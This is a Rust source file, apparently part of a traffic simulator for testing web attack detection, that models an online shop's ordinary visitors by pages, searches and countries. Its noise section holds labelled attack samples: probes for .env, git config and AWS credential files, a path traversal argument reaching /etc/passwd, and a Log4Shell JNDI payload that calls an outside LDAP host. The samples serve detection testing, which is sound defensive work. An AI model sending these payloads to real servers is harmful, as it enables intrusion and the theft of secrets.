//! A shop on the web: the background of most scenarios.

use std::sync::Arc;

use super::Scene;
use crate::catalog::Catalog;
use crate::crew::Crew;
use crate::kit::{self, BROWSERS};
use crate::plan::{Act, Audience};
use crate::population::{Custom, Habits, Noise, Target};
use crate::rules::Verdict;
use crate::shape::Shape;

/// The shop's usual visitors, from begin to end.
pub(super) fn visitors(scene: &Scene, catalog: &mut Catalog, shape: Shape) -> Vec<Act> {
    let crew = Crew::Regulars(habits(catalog));
    let pace = scene.people(1.0, shape);
    vec![Act::background(Audience::Everyone, scene.run, pace, crew)]
}

/// How the shop's visitors behave.
pub(crate) fn habits(catalog: &mut Catalog) -> Arc<Habits> {
    Habits::new(&CUSTOM, catalog)
}

/// What distinguishes the shop's visitors.
pub(crate) const CUSTOM: Custom<'static> = Custom {
    targets: TARGETS,
    target_weights: None,
    kits: BROWSERS,
    countries: COUNTRIES,
    noise: NOISE,
};

const TARGETS: &[Target<'static>] = &[
    Target::get("/"),
    Target::numbered("/products/", 400),
    Target::get("/assets/app.js"),
    Target::get("/assets/app.css"),
    Target::numbered("/images/", 900),
    Target::with_args("/search", SEARCHES),
    Target::get("/api/session"),
    Target::get("/cart"),
    Target::with_args(
        "/products",
        &["page=1", "page=2", "page=3", "sort=price", "sort=new"],
    ),
    Target::post("/api/cart"),
    Target::get("/login"),
    Target::numbered("/blog/", 60),
    Target::post("/api/login"),
    Target::get("/offers/weekly"),
    Target::get("/favicon.ico"),
    Target::numbered("/api/products/", 400),
    Target::get("/account"),
    Target::get("/account/orders"),
    Target::post("/api/checkout"),
    Target::get("/help"),
    Target::numbered("/help/", 25),
    Target::get("/robots.txt"),
    Target::get("/imprint"),
    Target::post("/api/newsletter"),
    Target::get("/sitemap.xml"),
];

const SEARCHES: &[&str] = &[
    "q=running+shoes",
    "q=rain+jacket",
    "q=backpack&page=2",
    "q=socks",
    "q=tent+2+persons",
    "q=caf%C3%A9+table",
    "q=gift&sort=price",
    "q=bottle",
];

const COUNTRIES: &[(&str, u64)] = &[
    ("US", 38),
    ("DE", 14),
    ("GB", 11),
    ("FR", 8),
    ("CA", 6),
    ("IN", 5),
    ("NL", 4),
    ("ES", 3),
    ("IT", 3),
    ("BR", 3),
    ("JP", 2),
    ("AU", 2),
    ("SE", 1),
];

const NOISE: &[Noise] = &[
    Noise {
        weight: 40,
        verdict: Verdict::ExploitablePath,
        kit: kit::GO,
        paths: &["/.env", "/.git/config", "/.aws/credentials", "/backup.zip"],
        args: "",
    },
    Noise {
        weight: 20,
        verdict: Verdict::NoUserAgent,
        kit: kit::NAMELESS,
        paths: &["/", "/robots.txt"],
        args: "",
    },
    Noise {
        weight: 10,
        verdict: Verdict::FileInclusion,
        kit: kit::PYTHON,
        paths: &["/index.php", "/download"],
        args: "file=../../../../etc/passwd",
    },
    Noise {
        weight: 5,
        verdict: Verdict::Log4Shell,
        kit: kit::CURL,
        paths: &["/", "/search"],
        args: "q=${jndi:ldap://203.0.113.200/a}",
    },
];
